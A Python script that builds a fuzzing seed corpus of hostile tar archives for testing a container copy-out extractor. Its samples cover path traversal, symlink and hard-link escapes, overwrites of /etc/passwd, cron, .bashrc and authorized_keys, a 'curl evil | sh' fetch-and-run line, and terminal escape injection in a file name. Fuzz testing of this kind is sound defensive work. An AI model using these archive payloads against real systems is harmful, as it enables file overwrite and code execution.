#!/usr/bin/env python3
"""Writes the seed corpus of fuzz_cp_extract (tests/fuzz/corpus/fuzz_cp_extract/): tar
streams a hostile guest could send for `cocoon cp BOX:x DIR` (the copy's top name is
"x"): names outside "x" (.bashrc, .ssh/authorized_keys, .git/hooks), "..", absolute
names, symlinks out of the copy and writes through them, hard links out of it, devices
and FIFOs, setuid and world-writable modes, lying sizes and sparse maps, oversized pax
headers, truncation, duplicates and out-of-order trees; plus well-formed copies in the
agent's dialect (ustar + pax + GNU sparse 1.0) so the fuzzer also starts from success.
Deterministic: the same bytes on every run. Usage: make_cp_corpus.py [OUTDIR]"""
import io
import os
import sys
import tarfile

MTIME = 1600000000


def info(name, kind=tarfile.REGTYPE, mode=0o644, linkname="", pax=None):
    ti = tarfile.TarInfo(name)
    ti.type = kind
    ti.mode = mode
    ti.linkname = linkname
    ti.mtime = MTIME
    if pax:
        ti.pax_headers = dict(pax)
    return ti


def tar(members):
    """members: list of (TarInfo, bytes or None)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for ti, data in members:
            if data is not None:
                ti.size = len(data)
            t.addfile(ti, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def f(name, data=b"x", **kw):
    return (info(name, **kw), data)


def d(name, mode=0o755):
    return (info(name, tarfile.DIRTYPE, mode=mode), None)


def sym(name, target):
    return (info(name, tarfile.SYMTYPE, mode=0o777, linkname=target), None)


def hard(name, target):
    return (info(name, tarfile.LNKTYPE, linkname=target), None)


def special(name, kind):
    return (info(name, kind, mode=0o666), None)


def sparse(name, realsize, regions, fill=b"s", lie_data=None):
    """GNU sparse 1.0 as cocoon-agent writes it: the map as decimal lines first."""
    text = f"{len(regions)}\n" + "".join(f"{o}\n{n}\n" for o, n in regions)
    mapb = text.encode()
    mapb += b"\0" * ((512 - len(mapb) % 512) % 512)
    data = fill * sum(n for _, n in regions) if lie_data is None else lie_data
    pax = {"GNU.sparse.major": "1", "GNU.sparse.minor": "0", "GNU.sparse.name": name,
           "GNU.sparse.realsize": str(realsize)}
    return (info("GNUSparseFile.0/" + name.rsplit("/", 1)[-1], pax=pax), mapb + data)


def corpus():
    c = {}
    c["good_tree.tar"] = tar([
        d("x/"), f("x/a.txt", b"hello\n"), d("x/sub/", 0o751), f("x/sub/run.sh", b"#!/bin/sh\n", mode=0o750),
        sym("x/sub/up", "../a.txt"), sym("x/dangling", "missing"), hard("x/hard", "x/a.txt"),
        f("x/empty", b""), sparse("x/sparse", 60000, [(0, 100), (50000, 10), (60000, 0)]),
        f("x/" + "n" * 200, b"long name"), f("x/ünïcødé ✓", b"utf-8"),
    ])
    c["good_single_file.tar"] = tar([f("x", b"just a file\n", mode=0o600)])
    c["outside_bashrc.tar"] = tar([d("x/"), f("x/ok", b"ok"), f(".bashrc", b"curl evil | sh\n")])
    c["outside_ssh.tar"] = tar([d("x/"), d(".ssh/"), f(".ssh/authorized_keys", b"ssh-ed25519 AAAA evil")])
    c["outside_git_hooks.tar"] = tar([d(".git/hooks/"), f(".git/hooks/pre-commit", b"#!/bin/sh\nevil\n", mode=0o755)])
    c["outside_prefix.tar"] = tar([d("x/"), f("xx/a", b"sibling with a longer name")])
    c["dotdot.tar"] = tar([d("x/"), f("x/../../etc/cron.d/evil", b"* * * * * id")])
    c["absolute.tar"] = tar([d("x/"), f("/etc/passwd", b"root::0:0::/:/bin/sh")])
    c["symlink_out.tar"] = tar([d("x/"), sym("x/passwd", "/etc/passwd"), sym("x/up", "../../.bashrc"),
                                sym("x/self", ".."), sym("x/sneaky", "a/../../..x"), f("x/ok", b"ok")])
    c["symlink_top.tar"] = tar([sym("x", "/root/.ssh/authorized_keys")])
    c["write_through_symlink.tar"] = tar([d("x/"), sym("x/s", "/etc"), f("x/s/passwd", b"evil")])
    c["write_through_inner_symlink.tar"] = tar([d("x/"), d("x/real/"), sym("x/l", "real"), f("x/l/f", b"evil")])
    c["symlink_then_file.tar"] = tar([d("x/"), sym("x/f", "inner"), f("x/f", b"over the link")])
    c["hardlink_out.tar"] = tar([d("x/"), hard("x/p", "../../etc/passwd"), hard("x/q", "/etc/shadow")])
    c["hardlink_symlink.tar"] = tar([d("x/"), sym("x/l", "/etc/passwd"), hard("x/h", "x/l")])
    c["devices_fifo.tar"] = tar([d("x/"), special("x/null", tarfile.CHRTYPE), special("x/sda", tarfile.BLKTYPE),
                                 special("x/fifo", tarfile.FIFOTYPE)])
    c["modes.tar"] = tar([d("x/", 0o1777), f("x/suid", b"s", mode=0o6777), d("x/ww/", 0o777),
                          f("x/ww/f", b"w", mode=0o666)])
    c["duplicate.tar"] = tar([d("x/"), f("x/a", b"one"), f("x/a", b"two")])
    c["out_of_order.tar"] = tar([d("x/"), d("x/a/"), d("x/b/"), f("x/a/late", b"late")])
    c["parent_missing.tar"] = tar([d("x/"), f("x/no/such/dir/f", b"f")])
    c["sparse_overlap.tar"] = tar([sparse("x", 100, [(0, 10), (5, 10)])])
    c["sparse_beyond.tar"] = tar([sparse("x", 100, [(90, 20)])])
    c["sparse_data_lie.tar"] = tar([sparse("x", 1000, [(0, 10)], lie_data=b"z" * 700)])
    c["sparse_huge_realsize.tar"] = tar([sparse("x", 1 << 62, [(0, 1), (1 << 62, 0)])])
    c["sparse_many.tar"] = tar([sparse("x", 20000, [(2 * i, 1) for i in range(5000)])])
    c["sparse_old_map.tar"] = tar([f("x", b"a", pax={"GNU.sparse.map": "0,1", "GNU.sparse.size": "1"})])
    c["pax_huge.tar"] = tar([f("x", b"a", pax={"comment": "c" * 70000})])
    c["pax_size_lie.tar"] = tar([f("x", b"tiny", pax={"size": "99999999999999"})])
    c["dir_with_data.tar"] = tar([(info("x/", tarfile.DIRTYPE), b"data in a dir")])
    c["too_big.tar"] = tar([d("x/"), f("x/big", b"b" * (64 << 10)), f("x/more", b"m" * 10)])
    whole = tar([d("x/"), f("x/partial", b"p" * 5000)])
    c["truncated.tar"] = whole[: 512 * 3]
    c["no_end_blocks.tar"] = tar([f("x", b"whole")])[:1024]
    c["empty_archive.tar"] = b"\0" * 1024
    c["garbage.bin"] = b"this is not a tar stream from any agent" * 30
    c["escapes_in_name.tar"] = tar([f("\x1b]0;owned\x07\n\x1b[2Jcocoon: ok", b"evil")])
    c["gnu_longname.tar"] = tar([(info("x", tarfile.GNUTYPE_LONGNAME), b"x/" + b"l" * 300)])
    return c


def main():
    out = sys.argv[1] if len(sys.argv) > 1 else os.path.join(os.path.dirname(os.path.abspath(__file__)),
                                                              "corpus", "fuzz_cp_extract")
    os.makedirs(out, exist_ok=True)
    items = corpus()
    for name, data in sorted(items.items()):
        with open(os.path.join(out, name), "wb") as fh:
            fh.write(data)
    print(f"wrote {len(items)} files to {out}")


if __name__ == "__main__":
    main()
